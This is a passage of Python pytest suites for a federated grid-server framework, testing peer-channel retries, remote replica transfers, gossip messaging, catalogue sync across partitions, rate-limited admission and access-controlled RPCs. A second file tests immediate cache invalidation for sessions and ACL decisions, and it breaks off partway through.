                                  max_attempts=2, backoff=0.0)
            with pytest.raises(PeerChannelError):
                channel.call("system.ping")
            assert registry.get("dead-site").state == "down"
            assert not channel.probe()
            channel.close()
        finally:
            server.close()

    def test_retry_false_surfaces_first_transport_error(self, fabric_ca,
                                                        peer_credential):
        server = build_site(fabric_ca, "oneshot-site")
        try:
            drop_attempts("oneshot-site", 1)
            channel = PeerChannel("oneshot-site",
                                  login_factory(server, peer_credential),
                                  backoff=0.0)
            with pytest.raises(PeerChannelError):
                channel.call("system.ping", retry=False)
            channel.close()
        finally:
            server.close()

    def test_backoff_schedule_on_fake_clock(self, fabric_ca, peer_credential,
                                            fake_clock):
        """Retries wait exponentially — asserted as a schedule, not wall time."""

        server = build_site(fabric_ca, "slow-site")
        try:
            drop_attempts("slow-site", 1, 2, 3)
            channel = PeerChannel("slow-site",
                                  login_factory(server, peer_credential),
                                  max_attempts=4, backoff=0.1,
                                  sleep=fake_clock.sleep)
            assert channel.call("system.ping") == "pong"
            assert fake_clock.sleeps == [0.1, 0.2, 0.4]
            assert channel.transport_errors == 3
            channel.close()
        finally:
            server.close()


# ---------------------------------------------------------------------------
# RemoteStorageElement over a dropping/reconnecting channel
# ---------------------------------------------------------------------------

class TestRemoteStorageElementOverChannel:
    LFN = "/lfn/fabric/payload.bin"
    DATA = b"fabric payload bytes " * 613          # several 4 KiB chunks

    def _seed(self, server, credential):
        client = ClarensClient.for_loopback(server.loopback())
        client.login_with_credential(credential)
        client.call("file.write", self.LFN, self.DATA, False)
        client.call("replica.register", self.LFN, "local", self.LFN)
        client.close()

    def test_read_survives_mid_transfer_link_drops(self, fabric_ca,
                                                   peer_credential):
        remote_server = build_site(fabric_ca, "store-site")
        try:
            self._seed(remote_server, peer_credential)
            # Drop the link twice in the middle of the chunk stream (attempt
            # 1 is the stat, 2+ are the ranged reads); the channel rebuilds a
            # session each time and the reads resume where they left off.
            drop_attempts("store-site", 3, 5)
            channel = PeerChannel("store-site",
                                  login_factory(remote_server, peer_credential),
                                  backoff=0.0)
            element = RemoteStorageElement("store-site", channel)
            assembled = b"".join(element.open_reader(self.LFN, chunk_size=4096))
            assert assembled == self.DATA
            assert channel.transport_errors == 2
            assert element.checksum(self.LFN) == \
                remote_server.services["replica"].catalogue.entry(
                    self.LFN)["checksum"]
            channel.close()
        finally:
            remote_server.close()

    def test_transfer_through_reconnecting_channel(self, fabric_ca,
                                                   peer_credential):
        """A full engine transfer pulls through a flaky peer channel."""

        remote_server = build_site(fabric_ca, "src-site")
        local_server = build_site(fabric_ca, "dst-site")
        try:
            self._seed(remote_server, peer_credential)
            drop_attempts("src-site", 7)
            channel = PeerChannel("src-site",
                                  login_factory(remote_server, peer_credential),
                                  backoff=0.0)
            replica = local_server.services["replica"]
            replica.add_storage_element(
                RemoteStorageElement("src-site", channel))
            replica.catalogue.register(
                self.LFN, "src-site", self.LFN,
                size=len(self.DATA),
                checksum=remote_server.services["replica"].catalogue.entry(
                    self.LFN)["checksum"])
            request = replica.engine.submit(self.LFN, "local")
            replica.engine.wait(request.transfer_id, timeout=30.0)
            done = replica.engine.get(request.transfer_id)
            assert done.state.value == "done", done.error
            local = replica.catalogue.replica_on(self.LFN, "local")
            assert local.state is ReplicaState.ACTIVE
        finally:
            local_server.close()
            remote_server.close()

    def test_write_does_not_retry_through_drops(self, fabric_ca,
                                                peer_credential):
        """Chunked uploads surface transport loss instead of replaying."""

        remote_server = build_site(fabric_ca, "upsite")
        try:
            drop_attempts("upsite", 1)
            element = RemoteStorageElement(
                "upsite", PeerChannel("upsite",
                                      login_factory(remote_server,
                                                    peer_credential),
                                      backoff=0.0))
            with pytest.raises(StorageElementError):
                element.write_stream("/lfn/up/x.bin", [b"abc", b"def"])
        finally:
            remote_server.close()

    def test_hop_marked_read_is_never_proxied_onward(self, fabric_ca,
                                                     peer_credential):
        """The ``hop=1`` marker stops proxy chains after a single hop.

        An edge server whose only replica lives on a peer proxies a plain
        ``GET file/.lfn/<name>`` read exactly once; the same read arriving
        already hop-marked (as a peer's RemoteStorageElement sends it) is
        answered from directly-reachable elements only — here, 404 — instead
        of proxying onward.  Unbounded proxy chains across stale catalogue
        views are how the fleet used to deadlock its request executors.
        """

        deep = build_site(fabric_ca, "deep-site")
        edge = build_site(fabric_ca, "edge-site")
        try:
            self._seed(deep, peer_credential)
            replica = edge.services["replica"]
            replica.add_storage_element(RemoteStorageElement(
                "deep-site", PeerChannel(
                    "deep-site", login_factory(deep, peer_credential),
                    backoff=0.0)))
            replica.catalogue.register(
                self.LFN, "deep-site", self.LFN, size=len(self.DATA),
                checksum=deep.services["replica"].catalogue.entry(
                    self.LFN)["checksum"])
            client = ClarensClient.for_loopback(edge.loopback())
            client.login_with_credential(peer_credential)
            path = ".lfn" + self.LFN
            proxied = client.http_get(path, query="offset=0&length=-1")
            assert proxied.status == 200
            assert proxied.body_bytes() == self.DATA
            hopped = client.http_get(path, query="offset=0&length=-1&hop=1")
            assert hopped.status == 404
            client.close()
        finally:
            edge.close()
            deep.close()

    def test_bare_client_still_accepted(self, fabric_ca, peer_credential):
        server = build_site(fabric_ca, "compat-site")
        try:
            self._seed(server, peer_credential)
            client = ClarensClient.for_loopback(server.loopback())
            client.login_with_credential(peer_credential)
            element = RemoteStorageElement("compat-site", client)
            assert element.exists(self.LFN)
            assert element.read(self.LFN, 0, 10) == self.DATA[:10]
            info = element.describe()
            assert info["remote_dn"] == str(
                peer_credential.certificate.subject)
            client.close()
        finally:
            server.close()


# ---------------------------------------------------------------------------
# GossipBus
# ---------------------------------------------------------------------------

class TestGossipBus:
    def test_topics_cross_server_boundaries(self, two_sites):
        site_a, site_b = two_sites
        seen = []
        site_b.message_bus.subscribe("cache.invalidate",
                                     lambda m: seen.append(m.payload))
        site_a.message_bus.publish("cache.invalidate.acl", {"tag": "acl"},
                                   source="site-a-origin")
        delivered = site_a.fabric.gossip.flush()
        assert delivered == {"site-b": 1}
        assert seen == [{"tag": "acl"}]
        # The applied message is not re-gossiped by B (TTL-1).
        assert site_b.fabric.gossip.stats()["outbox"] == 0

    def test_flush_drains_beyond_max_batch(self, two_sites):
        """One explicit flush delivers everything queued, in paged calls."""

        site_a, site_b = two_sites
        site_a.fabric.gossip.max_batch = 8
        seen = []
        site_b.message_bus.subscribe("cache.invalidate",
                                     lambda m: seen.append(m.payload["tag"]))
        for i in range(20):
            site_a.message_bus.publish("cache.invalidate.t",
                                       {"tag": f"t:{i}"}, source="origin")
        assert site_a.fabric.gossip.flush() == {"site-b": 20}
        assert seen == [f"t:{i}" for i in range(20)]
        assert site_a.fabric.gossip.stats()["outbox"] == 0

    def test_unlisted_topics_rejected_on_receive(self, two_sites):
        site_a, site_b = two_sites
        seen = []
        site_b.message_bus.subscribe("replica.quarantine",
                                     lambda m: seen.append(m.topic))
        applied = site_b.fabric.gossip.receive(
            [{"topic": "replica.quarantine", "payload": {"lfn": "/x"}},
             {"topic": "cache.invalidate.acl", "payload": {"tag": "acl"}},
             "not-a-struct"],
            from_peer="site-a")
        assert applied == 1                      # only the allow-listed topic
        assert seen == []
        assert site_b.fabric.gossip.rejected == 2

    def test_cache_invalidations_flush_remote_caches(self, fabric_ca,
                                                     peer_credential):
        """Separate buses + gossip == the old shared-bus relay behaviour."""

        a = build_site(fabric_ca, "cache-a", cache_enabled=True)
        b = build_site(fabric_ca, "cache-b", cache_enabled=True)
        try:
            mesh(a, b, peer_credential)
            tags = []
            b.invalidation.add_listener(tags.append)
            a.invalidation.publish("acl")
            a.fabric.gossip.flush()
            assert "acl" in tags
            assert b.invalidation_relay.applied_in >= 1
            # The applied flush is never queued for re-gossip on B (TTL-1),
            # so it cannot echo back to A.
            assert all(m["payload"].get("tag") != "acl"
                       for m in b.fabric.gossip._outbox)
        finally:
            a.close()
            b.close()


# ---------------------------------------------------------------------------
# Catalogue anti-entropy
# ---------------------------------------------------------------------------

class TestCatalogueSync:
    LFN = "/lfn/sync/dataset.root"
    DATA = b"event data " * 512

    def _register_on(self, server, credential, data=None):
        client = ClarensClient.for_loopback(server.loopback())
        client.login_with_credential(credential)
        client.call("file.write", self.LFN, data or self.DATA, False)
        client.call("replica.register", self.LFN, "local", self.LFN)
        return client

    def test_two_server_convergence_and_quarantine_wins(self, two_sites,
                                                        peer_credential):
        site_a, site_b = two_sites
        client_a = self._register_on(site_a, peer_credential)

        # One sync round: the LFN registered only on A appears in B's
        # catalogue, with its replica on B's peer element for A.
        outcome = site_b.fabric.sync.sync_once()
        assert outcome["site-a"]["entries"] == 1
        client_b = ClarensClient.for_loopback(site_b.loopback())
        client_b.login_with_credential(peer_credential)
        entry = client_b.call("replica.stat", self.LFN)
        assert entry["replicas"]["site-a"]["state"] == "active"
        # ... and it is readable through B's broker with no
        # RemoteStorageElement write having ever happened.
        assert download_lfn(client_b, self.LFN) == self.DATA

        # B quarantines its view of the copy; the next A-side round pulls
        # the quarantine home (quarantine wins over A's active state).
        site_b.services["replica"].catalogue.quarantine(
            self.LFN, "site-a", error="checksum mismatch seen from B")
        outcome = site_a.fabric.sync.sync_once()
        assert outcome["site-b"]["quarantined"] == 1
        local = site_a.services["replica"].catalogue.replica_on(
            self.LFN, "local")
        assert local.state is ReplicaState.QUARANTINED
        assert "site-b" in local.last_error

        # Quarantine wins in the other direction too: another B round must
        # not reactivate anything.
        site_b.fabric.sync.sync_once()
        assert site_b.services["replica"].catalogue.replica_on(
            self.LFN, "site-a").state is ReplicaState.QUARANTINED
        client_a.close()
        client_b.close()

    def test_unchanged_entries_are_not_refetched(self, two_sites,
                                                 peer_credential):
        site_a, site_b = two_sites
        self._register_on(site_a, peer_credential).close()
        assert site_b.fabric.sync.sync_once()["site-a"]["changed"] == 1
        # Version vector remembers the peer version: a second round moves
        # nothing.
        assert site_b.fabric.sync.sync_once()["site-a"]["changed"] == 0

    def test_checksum_conflicts_surface_not_clobber(self, two_sites,
                                                    peer_credential):
        site_a, site_b = two_sites
        conflicts = []
        site_b.message_bus.subscribe("fabric.sync.conflict",
                                     lambda m: conflicts.append(m.payload))
        self._register_on(site_a, peer_credential).close()
        self._register_on(site_b, peer_credential,
                          data=b"different bytes entirely").close()
        outcome = site_b.fabric.sync.sync_once()
        assert outcome["site-a"]["conflicts"] == 1
        assert conflicts and conflicts[0]["lfn"] == self.LFN
        # B's own canonical checksum is untouched.
        entry = site_b.services["replica"].catalogue.entry(self.LFN)
        assert "site-a" not in entry["replicas"]

    def test_partition_heals_and_tombstoneless_delete_conflicts(
            self, two_sites, peer_credential):
        """Anti-entropy across a partition: convergence, not silent drift.

        While B is partitioned from A, A registers a fresh LFN *and*
        delete-and-recreates an already-gossiped one with different bytes
        (no tombstone — the entry version restarts).  After the heal the
        fresh LFN converges, and the recreated one surfaces as a
        ``fabric.sync.conflict`` instead of silently clobbering (or
        silently keeping) B's stale view.  Note the recreate is only
        visible because B last saw the entry at version 2: a recreate that
        lands on the exact version the vector remembers is invisible to
        digests — the inherent blind spot of tombstone-less deletes.
        """

        site_a, site_b = two_sites
        conflicts = []
        site_b.message_bus.subscribe("fabric.sync.conflict",
                                     lambda m: conflicts.append(m.payload))
        catalogue_a = site_a.services["replica"].catalogue
        catalogue_b = site_b.services["replica"].catalogue

        self._register_on(site_a, peer_credential).close()
        catalogue_a.note_error(self.LFN, "local", "touched")   # version 2
        assert site_b.fabric.sync.sync_once()["site-a"]["entries"] == 1

        # Partition: every B->A channel attempt drops at the fault seam.
        partition = FAULTS.inject("fabric.channel.call",
                                  match={"peer": "site-a"}, times=None,
                                  exc=ClientError("injected partition"))
        assert "error" in site_b.fabric.sync.sync_once()["site-a"]

        # Behind the partition: one brand-new LFN ...
        fresh_lfn = "/lfn/sync/fresh.root"
        client_a = ClarensClient.for_loopback(site_a.loopback())
        client_a.login_with_credential(peer_credential)
        client_a.call("file.write", fresh_lfn, b"made during partition", False)
        client_a.call("replica.register", fresh_lfn, "local", fresh_lfn)
        client_a.close()
        # ... and a tombstone-less delete + recreate of the gossiped one.
        catalogue_a.drop(self.LFN)
        self._register_on(site_a, peer_credential,
                          data=b"recreated with different bytes").close()

        partition.cancel()
        outcome = site_b.fabric.sync.sync_once()["site-a"]
        assert outcome["entries"] == 1            # fresh LFN converged
        assert outcome["conflicts"] == 1          # recreate surfaced
        assert [c["lfn"] for c in conflicts] == [self.LFN]
        assert catalogue_b.replica_on(fresh_lfn, "site-a").state \
            is ReplicaState.ACTIVE
        # B's canonical truth for the recreated LFN is untouched ...
        assert catalogue_b.entry(self.LFN)["checksum"] == \
            hashlib.md5(self.DATA).hexdigest()
        # ... and the conflict does not storm: the next round moves nothing.
        assert site_b.fabric.sync.sync_once()["site-a"]["changed"] == 0
        assert len(conflicts) == 1

    def test_sync_now_rpc_is_admin_only(self, two_sites, admin_credential,
                                        user_credential):
        _, site_b = two_sites
        user = ClarensClient.for_loopback(site_b.loopback())
        user.login_with_credential(user_credential)
        with pytest.raises(Fault):
            user.call("fabric.sync_now")
        admin = ClarensClient.for_loopback(site_b.loopback())
        admin.login_with_credential(admin_credential)
        assert "site-a" in admin.call("fabric.sync_now")
        user.close()
        admin.close()


# ---------------------------------------------------------------------------
# Fabric-wide admission
# ---------------------------------------------------------------------------

class TestFabricAdmission:
    @pytest.fixture()
    def limited_sites(self, fabric_ca, peer_credential):
        a = build_site(fabric_ca, "adm-a", dispatch_rate_limit=0.001,
                       dispatch_burst=2)
        b = build_site(fabric_ca, "adm-b", dispatch_rate_limit=0.001,
                       dispatch_burst=2)
        mesh(a, b, peer_credential)
        yield a, b
        a.close()
        b.close()

    def test_throttle_on_a_sheds_on_b_within_one_flush(self, limited_sites,
                                                       fabric_ca):
        site_a, site_b = limited_sites
        hot = fabric_ca.issue_user("Hot Client")
        client_a = ClarensClient.for_loopback(site_a.loopback(),
                                              credential=hot)
        client_a.call("system.ping")
        client_a.call("system.ping")
        with pytest.raises(Fault) as excinfo:
            client_a.call("system.ping")
        assert excinfo.value.code == FaultCode.RETRY_LATER

        assert site_a.fabric.gossip.flush()["adm-b"] >= 1
        client_b = ClarensClient.for_loopback(site_b.loopback(),
                                              credential=hot)
        with pytest.raises(Fault) as excinfo:
            client_b.call("system.ping")          # never served B before
        assert excinfo.value.code == FaultCode.RETRY_LATER
        assert site_b.pipeline.admission.stats()["sheds_applied"] == 1
        assert site_b.fabric.fabric_admission.stats()["sheds_applied"] == 1
        client_a.close()
        client_b.close()

    def test_other_identities_unaffected_by_shed(self, limited_sites,
                                                 fabric_ca):
        site_a, site_b = limited_sites
        hot = fabric_ca.issue_user("Hot Two")
        calm = fabric_ca.issue_user("Calm Client")
        client_a = ClarensClient.for_loopback(site_a.loopback(),
                                              credential=hot)
        for _ in range(2):
            client_a.call("system.ping")
        with pytest.raises(Fault):
            client_a.call("system.ping")
        site_a.fabric.gossip.flush()
        calm_b = ClarensClient.for_loopback(site_b.loopback(),
                                            credential=calm)
        assert calm_b.call("system.ping") == "pong"
        client_a.close()
        calm_b.close()

    def test_stats_expose_per_identity_counters(self, limited_sites,
                                                fabric_ca, admin_credential):
        site_a, _ = limited_sites
        hot = fabric_ca.issue_user("Hot Three")
        hot_dn = str(hot.certificate.subject)
        client = ClarensClient.for_loopback(site_a.loopback(), credential=hot)
        for _ in range(2):
            client.call("system.ping")
        with pytest.raises(Fault):
            client.call("system.ping")
        admin = ClarensClient.for_loopback(site_a.loopback(),
                                           credential=admin_credential)
        snapshot = admin.call("system.stats")
        per_identity = {row["identity"]: row
                        for row in snapshot["admission"]["per_identity"]}
        assert per_identity[hot_dn]["admitted"] == 2
        assert per_identity[hot_dn]["throttled"] == 1
        client.close()
        admin.close()


# ---------------------------------------------------------------------------
# Multicall token charging
# ---------------------------------------------------------------------------

class TestMulticallTokenCharge:
    @pytest.fixture()
    def limited_server(self, fabric_ca):
        server = build_site(fabric_ca, "mc-site", dispatch_rate_limit=0.001,
                            dispatch_burst=5)
        yield server
        server.close()

    def test_batch_of_n_costs_n_tokens(self, limited_server, fabric_ca):
        user = fabric_ca.issue_user("Batch User")
        client = ClarensClient.for_loopback(limited_server.loopback(),
                                            credential=user)
        # Burst 5: one batch of 5 entries drains the bucket entirely ...
        assert client.multicall([("system.ping", [])] * 5) == ["pong"] * 5
        stats = limited_server.pipeline.admission.stats()
        assert stats["charged_tokens"] == 4      # 1 admit + 4 charged
        # ... so the very next single call is throttled.
        with pytest.raises(Fault) as excinfo:
            client.call("system.ping")
        assert excinfo.value.code == FaultCode.RETRY_LATER
        client.close()

    def test_batch_beyond_burst_capacity_refused_permanently(
            self, limited_server, fabric_ca):
        """A batch no amount of waiting can afford must not say RETRY."""

        user = fabric_ca.issue_user("Greedy User")
        client = ClarensClient.for_loopback(limited_server.loopback(),
                                            credential=user)
        with pytest.raises(Fault) as excinfo:
            client.multicall([("system.ping", [])] * 6)   # > burst of 5
        assert excinfo.value.code == FaultCode.INVALID_PARAMS
        # Only the refused batch's admit token was spent (balance 4 of 5):
        # an affordable batch still runs.
        assert client.multicall([("system.ping", [])] * 4) == ["pong"] * 4
        client.close()

    def test_temporarily_unaffordable_batch_gets_retry_later(
            self, limited_server, fabric_ca):
        user = fabric_ca.issue_user("Bursty User")
        client = ClarensClient.for_loopback(limited_server.loopback(),
                                            credential=user)
        client.call("system.ping")
        client.call("system.ping")                 # balance now 3 of burst 5
        with pytest.raises(Fault) as excinfo:
            client.multicall([("system.ping", [])] * 5)   # fits burst, not balance
        assert excinfo.value.code == FaultCode.RETRY_LATER
        # The rejected charge deducted nothing beyond the admit token, so an
        # affordable batch still runs (balance 2 after the failed attempt).
        assert client.multicall([("system.ping", [])] * 2) == ["pong"] * 2
        client.close()

    def test_exempt_identity_batches_freely(self, limited_server, fabric_ca):
        """An admission-exempt DN (a fabric peer) is never batch-refused."""

        svc = fabric_ca.issue_user("Exempt Service")
        dn = str(svc.certificate.subject)
        limited_server.pipeline.admission.add_exemption(lambda i: i == dn)
        client = ClarensClient.for_loopback(limited_server.loopback(),
                                            credential=svc)
        # 20 entries dwarf the burst of 5: neither the permanent burst guard
        # nor the token charge applies to an exempt identity.
        assert client.multicall([("system.ping", [])] * 20) == ["pong"] * 20
        client.close()

    def test_uncharged_without_rate_limit(self, fabric_ca, peer_credential):
        server = build_site(fabric_ca, "open-site")
        try:
            client = ClarensClient.for_loopback(server.loopback())
            client.login_with_credential(peer_credential)
            assert client.multicall([("system.ping", [])] * 50) == \
                ["pong"] * 50
            client.close()
        finally:
            server.close()


# ---------------------------------------------------------------------------
# The fabric.* RPC surface
# ---------------------------------------------------------------------------

class TestFabricRPCs:
    def test_peers_and_status_require_authentication(self, two_sites,
                                                     user_credential):
        site_a, _ = two_sites
        anon = ClarensClient.for_loopback(site_a.loopback())
        with pytest.raises(Fault):
            anon.call("fabric.peers")
        user = ClarensClient.for_loopback(site_a.loopback())
        user.login_with_credential(user_credential)
        peers = user.call("fabric.peers")
        assert [p["name"] for p in peers] == ["site-b"]
        status = user.call("fabric.status")
        assert "cache.invalidate" in status["gossip"]["topics"]
        assert status["catalogue_sync"]["peers"] == ["site-b"]
        anon.close()
        user.close()

    def test_publish_and_catalogue_fenced_to_peers(self, two_sites,
                                                   user_credential,
                                                   peer_credential):
        site_a, _ = two_sites
        user = ClarensClient.for_loopback(site_a.loopback())
        user.login_with_credential(user_credential)
        for method, params in (("fabric.publish", ([],)),
                               ("fabric.catalogue_digest", ()),
                               ("fabric.catalogue_entries", (["/lfn/x"],))):
            with pytest.raises(Fault) as excinfo:
                user.call(method, *params)
            assert "peer" in str(excinfo.value).lower()
        peer = ClarensClient.for_loopback(site_a.loopback())
        peer.login_with_credential(peer_credential)
        assert peer.call("fabric.publish", []) == 0
        assert peer.call("fabric.catalogue_digest") == {}
        user.close()
        peer.close()

    def test_catalogue_entries_are_fabric_normalised(self, two_sites,
                                                     peer_credential):
        site_a, _ = two_sites
        client = ClarensClient.for_loopback(site_a.loopback())
        client.login_with_credential(peer_credential)
        client.call("file.write", "/lfn/norm/f.bin", b"payload", False)
        client.call("replica.register", "/lfn/norm/f.bin", "local",
                    "/lfn/norm/f.bin")
        entries = client.call("fabric.catalogue_entries", ["/lfn/norm/f.bin"])
        assert len(entries) == 1
        replicas = entries[0]["replicas"]
        # The local element is exported under the server's own name with the
        # LFN as the pfn; "local" itself never leaves the server.
        assert set(replicas) == {"site-a"}
        assert replicas["site-a"]["pfn"] == "/lfn/norm/f.bin"
        client.close()

    def test_add_peer_attaches_storage_element(self, two_sites):
        site_a, _ = two_sites
        element = site_a.services["replica"].elements["site-b"]
        assert isinstance(element, RemoteStorageElement)

    def test_remove_peer_detaches_and_disables(self, two_sites):
        site_a, _ = two_sites
        assert site_a.fabric.remove_peer("site-b")
        assert site_a.fabric.registry.get("site-b") is None
        assert site_a.fabric.gossip.stats()["peers"] == []
        assert not site_a.services["replica"].elements["site-b"].available

    def test_readding_peer_revives_storage_element(self, two_sites,
                                                   peer_credential):
        site_a, site_b = two_sites
        site_a.fabric.remove_peer("site-b")
        assert not site_a.services["replica"].elements["site-b"].available
        site_a.fabric.add_peer(
            "site-b", factory=login_factory(site_b, peer_credential),
            dn=str(peer_credential.certificate.subject))
        element = site_a.services["replica"].elements["site-b"]
        assert isinstance(element, RemoteStorageElement)
        assert element.available
        assert element.channel.probe()       # bound to the fresh channel

    def test_config_peers_are_added_on_start(self, fabric_ca):
        """``name=url|dn`` entries register the peer's inbound identity."""

        peer_dn = "/O=clarens.test/OU=Services/CN=host/x.clarens.test"
        server = build_site(
            fabric_ca, "cfg-site",
            fabric_peers=[f"site-x=http://127.0.0.1:1/|{peer_dn}",
                          "site-y=http://127.0.0.1:2/"])
        try:
            assert server.fabric.registry.names() == ["site-x", "site-y"]
            assert server.fabric.registry.get("site-x").url == \
                "http://127.0.0.1:1/"
            # The DN behind ``|`` is what the peer fence trusts; without it
            # a config peer could never deliver gossip or serve sync.
            assert server.fabric.registry.get("site-x").dn == peer_dn
            assert peer_dn in server.fabric.registry.trusted_dns()
        finally:
            server.close()

    def test_malformed_config_peer_fails_at_config_time(self):
        from repro.core.config import ConfigError
        for bad in ("site-b", "=http://x/", "site-b=", "site-b=|/CN=x"):
            with pytest.raises(ConfigError):
                ServerConfig(fabric_peers=[bad])
        # The string form splits on ';' (DNs may contain commas).
        config = ServerConfig(fabric_peers="a=http://1/|/O=Acme, Inc./CN=a"
                                           ";b=http://2/")
        assert config.fabric_peers == ["a=http://1/|/O=Acme, Inc./CN=a",
                                       "b=http://2/"]

    def test_config_peer_fabric_end_to_end(self, fabric_ca):
        """Two servers wired purely via ``fabric_peers`` strings converge.

        Channels dial the configured URLs over real sockets, authenticate
        with each server's host credential, and pass the peer fence via the
        host DN carried behind ``|`` — the full static-INI deployment path.
        """

        def reserve_port() -> int:
            with socket.socket() as probe:
                probe.bind(("127.0.0.1", 0))
                return probe.getsockname()[1]

        ports = {"cfg-a": reserve_port(), "cfg-b": reserve_port()}
        hosts = {site: fabric_ca.issue_host(f"{site}.clarens.test")
                 for site in ports}
        dns = {site: str(hosts[site].certificate.subject) for site in ports}
        servers, socks = {}, {}
        try:
            for site, other in (("cfg-a", "cfg-b"), ("cfg-b", "cfg-a")):
                config = ServerConfig(
                    server_name=site, admins=[OPS_DN],
                    host_dn=dns[site],
                    fabric_peers=[f"{other}=http://127.0.0.1:"
                                  f"{ports[other]}/|{dns[other]}"])
                servers[site] = ClarensServer(config, credential=hosts[site],
                                              trust_store=fabric_ca.trust_store())
                socks[site] = servers[site].socket_server(port=ports[site])
                socks[site].__enter__()
            lfn = "/lfn/cfg/data.bin"
            catalogue_a = servers["cfg-a"].services["replica"].catalogue
            catalogue_a.register(lfn, "local", lfn, size=3, checksum="")
            (servers["cfg-a"].file_root / lfn.lstrip("/")).parent.mkdir(
                parents=True, exist_ok=True)
            (servers["cfg-a"].file_root / lfn.lstrip("/")).write_bytes(b"abc")
            outcome = servers["cfg-b"].fabric.sync.sync_once()
            assert outcome["cfg-a"]["entries"] == 1, outcome
            replica_b = servers["cfg-b"].services["replica"]
            assert replica_b.catalogue.replica_on(lfn, "cfg-a").state \
                is ReplicaState.ACTIVE
            assert replica_b.broker.read(lfn) == b"abc"
        finally:
            for sock in socks.values():
                sock.__exit__(None, None, None)
            for server in servers.values():
                server.close()
