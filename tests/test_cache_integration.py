"""End-to-end behaviour of a caching server.

The invariant under test: with ``cache_enabled=True`` every write (session
destroy/renew, ACL edit, VO group change, discovery registration) is visible
through the caches *immediately* — there is no stale-grant window — while
repeated reads are served from memory (visible in the cache statistics).
"""

from __future__ import annotations

import pytest

from repro.acl.model import ACL
from repro.cache.core import NEGATIVE
from repro.client.client import ClarensClient
from repro.core.errors import SessionExpiredError
from repro.monitoring.bus import MessageBus
from repro.monitoring.cachemetrics import CacheStatsReporter
from repro.monitoring.station import StationServer
from repro.protocols.errors import Fault

from tests.conftest import ADMIN_DN, build_server

ALICE_DN = "/O=clarens.test/OU=People/CN=Alice Adams"


@pytest.fixture()
def cached_server(ca, host_credential):
    """A fresh in-memory server with the hot-path caches enabled."""

    srv = build_server(ca, host_credential, cache_enabled=True)
    yield srv
    srv.close()


@pytest.fixture()
def cached_client(cached_server, alice_credential):
    cl = ClarensClient.for_loopback(cached_server.loopback())
    cl.login_with_credential(alice_credential)
    yield cl
    cl.close()


@pytest.fixture()
def cached_admin(cached_server, admin_credential):
    cl = ClarensClient.for_loopback(cached_server.loopback())
    cl.login_with_credential(admin_credential)
    yield cl
    cl.close()


class TestSessionCache:
    def test_validate_hits_cache_on_repeat(self, cached_server):
        session = cached_server.sessions.create(ALICE_DN)
        cache = cached_server.caches.get("core.sessions")
        before = cache.stats.hits
        for _ in range(5):
            assert cached_server.sessions.validate(session.session_id).dn == ALICE_DN
        assert cache.stats.hits >= before + 4

    def test_destroy_is_visible_immediately(self, cached_server):
        session = cached_server.sessions.create(ALICE_DN)
        cached_server.sessions.validate(session.session_id)  # warm the cache
        assert cached_server.sessions.destroy(session.session_id)
        with pytest.raises(SessionExpiredError):
            cached_server.sessions.validate(session.session_id)

    def test_renew_is_visible_immediately(self, cached_server):
        session = cached_server.sessions.create(ALICE_DN, lifetime=60.0)
        cached_server.sessions.validate(session.session_id)
        renewed = cached_server.sessions.renew(session.session_id, lifetime=3600.0)
        assert cached_server.sessions.validate(session.session_id).expires == renewed.expires

    def test_set_attribute_is_visible_immediately(self, cached_server):
        session = cached_server.sessions.create(ALICE_DN)
        cached_server.sessions.validate(session.session_id)
        cached_server.sessions.set_attribute(session.session_id, "color", "green")
        assert cached_server.sessions.validate(session.session_id).attributes["color"] == "green"

    def test_unknown_ids_are_negative_cached(self, cached_server):
        cache = cached_server.caches.get("core.sessions")
        for _ in range(3):
            with pytest.raises(SessionExpiredError):
                cached_server.sessions.validate("no-such-session")
        assert cache.stats.negative_hits >= 2
        assert cache.get("no-such-session") is NEGATIVE

    def test_logout_over_rpc_ends_the_session(self, cached_client):
        assert cached_client.call("system.whoami")["authenticated"]
        assert cached_client.call("system.logout") is True
        with pytest.raises(Fault):
            cached_client.call("system.whoami")

    def test_destroy_racing_validate_is_not_resurrected(self, cached_server):
        # A destroy landing between the cache miss's DB read and its cache
        # fill must win: the stale session may be returned to the overlapped
        # caller, but it must not be (re)stored in the cache.
        sessions = cached_server.sessions
        sid = sessions.create(ALICE_DN).session_id
        cache = cached_server.caches.get("core.sessions")
        table = sessions._table
        real_get = table.get

        def racing_get(key, default=...):
            record = real_get(key, default)
            table.get = real_get  # fire only once
            sessions.destroy(sid)
            return record

        table.get = racing_get
        sessions.validate(sid)  # overlapped with the destroy
        from repro.cache.core import MISSING

        assert cache.get(sid) is MISSING
        with pytest.raises(SessionExpiredError):
            sessions.validate(sid)

    def test_destroy_for_dn_flushes_every_session(self, cached_server):
        ids = [cached_server.sessions.create(ALICE_DN).session_id for _ in range(3)]
        for sid in ids:
            cached_server.sessions.validate(sid)
        assert cached_server.sessions.destroy_for_dn(ALICE_DN) == 3
        for sid in ids:
            with pytest.raises(SessionExpiredError):
                cached_server.sessions.validate(sid)


class TestACLDecisionCache:
    def test_acl_edit_is_visible_immediately(self, cached_server, cached_client,
                                             cached_admin):
        # Warm the decision cache with an allowed call...
        assert cached_client.call("system.echo", "hi") == "hi"
        # ...then deny Alice at the method level and retry at once.
        cached_admin.call("acl.set_method_acl", "system.echo",
                          ACL(order="allow,deny", dns_denied=[ALICE_DN]).to_record())
        with pytest.raises(Fault):
            cached_client.call("system.echo", "hi")
        # Removing the ACL restores access just as immediately.
        cached_admin.call("acl.remove_method_acl", "system.echo")
        assert cached_client.call("system.echo", "hi") == "hi"

    def test_repeat_checks_hit_the_cache(self, cached_server):
        cache = cached_server.caches.get("acl.decisions")
        cached_server.acl.check_method(ALICE_DN, "system.echo")
        before = cache.stats.hits
        for _ in range(4):
            assert cached_server.acl.check_method(ALICE_DN, "system.echo").allowed
        assert cache.stats.hits >= before + 4

    def test_default_allow_flip_flushes_decisions(self, cached_server):
        # Flipping the runtime lock-down knob must invalidate decisions that
        # were decided by the default, immediately.
        acl = cached_server.acl
        assert acl.check_method(ALICE_DN, "system.echo").allowed  # cached allow
        acl.default_allow_authenticated = False
        assert not acl.check_method(ALICE_DN, "system.echo").allowed
        acl.default_allow_authenticated = True
        assert acl.check_method(ALICE_DN, "system.echo").allowed

    def test_vo_group_change_flushes_decisions(self, cached_server):
        server = cached_server
        server.acl.set_method_acl("job", ACL(groups_allowed=["cms"]))
        assert not server.acl.check_method(ALICE_DN, "job.submit").allowed
        server.vo.create_group("cms", members=[ALICE_DN], actor_dn=ADMIN_DN)
        assert server.acl.check_method(ALICE_DN, "job.submit").allowed
        server.vo.remove_member("cms", ALICE_DN, actor_dn=ADMIN_DN)
